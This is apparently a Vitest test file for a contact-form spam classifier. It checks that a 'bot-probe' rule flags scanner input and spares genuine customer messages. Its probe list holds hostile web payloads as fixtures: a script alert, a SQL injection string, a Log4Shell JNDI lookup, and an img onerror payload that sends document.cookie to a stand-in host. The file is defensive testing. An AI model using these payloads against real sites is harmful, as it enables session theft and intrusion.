import { describe, expect, it } from "vitest";
import { classifyLead, type SpamContext, type SpamInput } from "./classify-lead.ts";

const noContext: SpamContext = { senderRule: null, sameMessageFromOtherAddresses: 0 };
const lead = (message: string): SpamInput => ({ name: "Robin Meyer", email: "robin@meyer-studio.de", company: null, message });
/** The rules alone, no model: what the bot-probe rule does by itself. */
const rules = (message: string) => classifyLead(lead(message), noContext, null);

describe("what bots and scanners type into the form is held by a rule, whatever the model says", () => {
  const probes = [
    "<script>alert(document.cookie)</script>",
    "' OR '1'='1' --",
    "${jndi:ldap://198.51.100.7:1389/a}",
    '<img src=x onerror="fetch(`//x.example/`+document.cookie)">',
    "Hi {first_name}, a quick question about {company_name}.",
    "Dear [FIRST_NAME], I came across [COMPANY] today.",
    "{{ message }}",
    "test message",
    "undefined",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "asdfasdfasdf",
    "poiuytrewq",
    "fgfgfgfg sdfsdf",
    "zzzzzzzzzzzzzz",
    "spam spam spam spam",
    "🔥🔥🔥💯💯",
    "?????? ????? ???",
    "Ã¤Ã¶Ã¼ Ã©Ã¨ â€™ Ð¿Ñ€Ð¸",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "3f2b8c1d-9e4a-4b7c-8d2e-1a0b9c8d7e6f",
  ];
  for (const message of probes) {
    it(JSON.stringify(message), () => {
      const verdict = rules(message);
      expect(verdict.reasons).toContain("bot-probe");
      expect(verdict.spam).toBe(true);
    });
  }
});

describe("a person's message that mentions such things is not held by that rule alone", () => {
  const people = [
    "Since the update the confirmation e-mail says {{ message }} instead of the visitor's text. Could you look at it this week?",
    "Our security scanner flagged that the search box reflects <script> tags back into the page; we'd like you to check and fix it.",
    "Sie machen auch Shopware-Shops? Rufen Sie mich an: +49 170 1234567",
    "Do you do Shopify?",
    "Hallo, wir brauchen eine neue Website für unsere Praxis.",
    "hahaha no worries, Tuesday works! See you then.",
    // A bare greeting: someone trying the form, or sending before they finished. Held, it would be
    // a lead the agency never sees; delivered, it costs a glance.
    "Hi",
    "Hello!",
  ];
  for (const message of people) {
    it(JSON.stringify(message), () => expect(rules(message).spam).toBe(false));
  }
});
